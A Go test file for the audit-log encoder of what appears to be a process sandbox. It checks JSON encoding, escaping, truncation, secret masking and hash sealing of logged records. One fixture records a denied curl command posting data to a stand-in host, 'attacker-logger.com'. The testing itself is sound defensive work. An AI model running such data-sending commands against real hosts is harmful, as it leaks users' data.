package audit

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

var testTime = time.Date(2026, 3, 4, 5, 6, 7, 80, time.UTC)

// fullRecord returns a record that has every member.
func fullRecord() *Record {
	sent, received, ms := int64(0), int64(1234), 12.345
	return &Record{
		Time: testTime, Session: "0123456789abcdef", Seq: 7,
		Event: RequestEvent, ID: "k3m9x2ab", Decision: Deny,
		Rule: "no-upload", RuleAt: "/etc/boundary/policy.hcl:12", Reason: "rule",
		Protocol: "https", Method: "POST", Host: "attacker-logger.com", Port: 8443, Path: "/a%2fb/ü",
		Query: []string{"q", "page"}, Status: 403, Upstream: "[2001:db8::1]:8443",
		BytesSent: &sent, BytesReceived: &received, DurationMS: &ms,
		Process: &Process{
			PID: 123, PPID: 45, Exe: "/usr/bin/curl", Argv: []string{"curl", "-d", `{"a":1}`, "https://attacker-logger.com/"},
			Cwd: "/home/dev/a \"b\"", UID: 0, StartTime: testTime.Add(-time.Second),
			Ancestors: []Ancestor{{PID: 45, Exe: "/bin/sh"}, {PID: 1, Exe: ""}},
		},
		Start: &Start{
			Version: "1.0", Mode: "enforce", Kernel: "6.12.1", Guards: []string{"seccomp"}, Missing: []string{"landlock-net"},
			Policies: []string{"a.hcl", "b.hcl"}, Command: []string{"sh", "agent.sh"}, PublicKey: "cHVi",
			Standard: []Standard{{FD: 0, Family: "AF_INET", Type: "SOCK_STREAM", Peer: "192.0.2.1:80"}, {FD: 2, Family: "AF_UNIX", Type: "SOCK_DGRAM"}},
		},
		End:     &End{ExitStatus: 143, Signal: "SIGTERM", Allowed: 1, Denied: 2, WouldDeny: 3},
		Syscall: &Syscall{Name: "socket", Args: []uint64{17, 3, 1<<64 - 1}, Errno: "EAFNOSUPPORT"},
		Lost:    &Lost{Records: 2, Since: testTime, Cause: "write log: no space left on device"},
		Message: "one\ntwo\t\x1b[31m", TornBytes: 10,
		Prev: zeroHash, Hash: "",
	}
}

func encode(r *Record) []byte {
	line, hash := seal(appendRecord(nil, r))
	r.Hash = hash
	return line
}

func TestEncodeRoundTrip(t *testing.T) {
	tests := map[string]*Record{
		"all":     fullRecord(),
		"least":   {Time: testTime, Session: "s", Event: SessionEnd, Prev: zeroHash},
		"process": {Time: testTime, Session: "s", Event: ProcessExec, Process: &Process{}, Prev: zeroHash},
		"start":   {Time: testTime, Session: "s", Event: SessionStart, Start: &Start{Guards: []string{}, Command: []string{}}, Prev: zeroHash},
	}
	for name, want := range tests {
		t.Run(name, func(t *testing.T) {
			line := encode(want)
			var got Record
			dec := json.NewDecoder(bytes.NewReader(line))
			dec.DisallowUnknownFields()
			if err := dec.Decode(&got); err != nil {
				t.Fatalf("decode %s: %v", line, err)
			}
			if diff := cmp.Diff(want, &got); diff != "" {
				t.Errorf("record (-want +got):\n%s", diff)
			}
			// What encoding/json makes of the tags has the same members.
			standard, err := json.Marshal(want)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(decodeAny(t, standard), decodeAny(t, line)); diff != "" {
				t.Errorf("members (-encoding/json +own):\n%s", diff)
			}
		})
	}
}

// decodeAny decodes an object, with times cut to the form that both encoders share.
func decodeAny(t *testing.T, line []byte) map[string]any {
	t.Helper()
	line = bytes.ReplaceAll(line, []byte("07.000000080Z"), []byte("07.00000008Z"))
	line = bytes.ReplaceAll(line, []byte("06.000000080Z"), []byte("06.00000008Z"))
	var v map[string]any
	if err := json.Unmarshal(line, &v); err != nil {
		t.Fatalf("decode %s: %v", line, err)
	}
	return v
}

func TestEncodeLine(t *testing.T) {
	r := &Record{
		Time: testTime, Session: "s", Seq: 1, Event: RequestEvent, Decision: Allow, Method: "GET", Host: "a.example",
		Process: &Process{PID: 2, PPID: 1, Exe: "/bin/\xff\x01\u202ex", Argv: []string{"x", "--token=abc"}},
		Prev:    zeroHash,
	}
	want := `{"time":"2026-03-04T05:06:07.000000080Z","session":"s","seq":1,"event":"request","decision":"allow",` +
		`"method":"GET","host":"a.example","process":{"pid":2,"ppid":1,"exe":"/bin/\\xff\u0001\u202ex",` +
		`"argv":["x","--token=***"],"uid":0},"prev":"` + zeroHash + `"}`
	if diff := cmp.Diff(want, string(appendRecord(nil, r))); diff != "" {
		t.Errorf("line (-want +got):\n%s", diff)
	}
}

func TestEncodeBounds(t *testing.T) {
	long := strings.Repeat("\x00", 1<<20)
	many := make([]string, 1000)
	for i := range many {
		many[i] = "\x01ü"
	}
	r := fullRecord()
	r.Rule, r.RuleAt, r.Reason, r.Message, r.Host, r.Path, r.Upstream, r.Method = long, long, long, long, long, long, long, long
	r.Query = many
	r.Process.Exe, r.Process.Cwd, r.Process.Argv = long, long, []string{long}
	r.Process.Ancestors = make([]Ancestor, 1000)
	for i := range r.Process.Ancestors {
		r.Process.Ancestors[i].Exe = long
	}
	r.Start.Guards, r.Start.Policies, r.Start.Command = many, []string{long}, many
	r.Syscall.Args = make([]uint64, 100)
	line := encode(r)
	if len(line) > maxLine {
		t.Errorf("line of %d bytes, want at most %d", len(line), maxLine)
	}
	var got Record
	if err := json.Unmarshal(line, &got); err != nil {
		t.Fatal(err)
	}
	if n := len(got.Process.Ancestors); n != maxList {
		t.Errorf("%d ancestors, want %d", n, maxList)
	}
	if want := many[0] + many[0]; strings.Join(got.Start.Command[:2], "") != want || len(got.Start.Command) != maxList+1 {
		t.Errorf("command of %d, starting %q", len(got.Start.Command), got.Start.Command[:2])
	}
	if got, want := got.Start.Command[maxList], "…[+936 more]"; got != want {
		t.Errorf("mark %q, want %q", got, want)
	}
}

func TestEncodeCut(t *testing.T) {
	tests := []struct {
		name string
		argv []string
		want []string
	}{
		{"fits", []string{"a", strings.Repeat("b", 4095)}, []string{"a", strings.Repeat("b", 4095)}},
		{"one byte more", []string{"a", strings.Repeat("b", 4096)}, []string{"a", strings.Repeat("b", 4095) + "…[+1 bytes]"}},
		{"character", []string{strings.Repeat("b", 4095) + "ü"}, []string{strings.Repeat("b", 4095) + "…[+2 bytes]"}},
		{"rest", []string{strings.Repeat("b", 4096), "c", "d"}, []string{strings.Repeat("b", 4096), "…[+2 more]"}},
		{"far too long", []string{strings.Repeat("b", 100000)}, []string{strings.Repeat("b", 4096) + "…[+95904 bytes]"}},
		{"secret at the edge", []string{strings.Repeat("b", 4090) + " password=" + strings.Repeat("s", 100)},
			[]string{strings.Repeat("b", 4090) + " passw…[+7 bytes]"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			var got []string
			if err := json.Unmarshal(appendArgv(nil, test.argv), &got); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Errorf("argv (-want +got):\n%s", diff)
			}
		})
	}
}

func FuzzEncode(f *testing.F) {
	f.Add("/usr/bin/curl", "https://h/?token=x", "/p\xff\x1b[2J\u2028", 1.5, int64(-1))
	f.Add("\xed\xa0\x80", "\"\\", "\u202e\u0085\x7f", 1e300, int64(0))
	f.Fuzz(func(t *testing.T, exe, arg, path string, ms float64, n int64) {
		r := &Record{
			Time: testTime, Session: "s", Event: RequestEvent, Path: path, Host: exe, Query: []string{path},
			DurationMS: &ms, BytesSent: &n, Process: &Process{Exe: exe, Argv: []string{exe, arg}, Cwd: path}, Prev: zeroHash,
		}
		line := encode(r)
		if !utf8.Valid(line) {
			t.Fatalf("not UTF-8: %q", line)
		}
		for _, c := range string(line[:len(line)-1]) {
			if c < 0x20 || c == 0x7f || unsafeOnTerminal(c) {
				t.Fatalf("%U in %q", c, line)
			}
		}
		var got Record
		if err := json.Unmarshal(line, &got); err != nil {
			t.Fatalf("decode %s: %v", line, err)
		}
		if utf8.ValidString(path) && len(path) <= maxPath && got.Path != path {
			t.Errorf("path %q, want %q", got.Path, path)
		}
		if utf8.ValidString(exe) && len(exe) <= maxText && got.Host != exe {
			t.Errorf("host %q, want %q", got.Host, exe)
		}
		if _, err := Verify(bytes.NewReader(line)); err != nil {
			t.Errorf("verify: %v", err)
		}
		masked := MaskArgv([]string{exe, arg})
		if again := MaskArgv(masked); !cmp.Equal(masked, again) {
			t.Errorf("mask %q, and again %q", masked, again)
		}
	})
}

func BenchmarkEncode(b *testing.B) {
	r := fullRecord()
	r.Start, r.End, r.Syscall, r.Lost = nil, nil, nil, nil
	buf := make([]byte, 0, 4096)
	b.ReportAllocs()
	for b.Loop() {
		buf, _ = seal(appendRecord(buf[:0], r))
	}
}
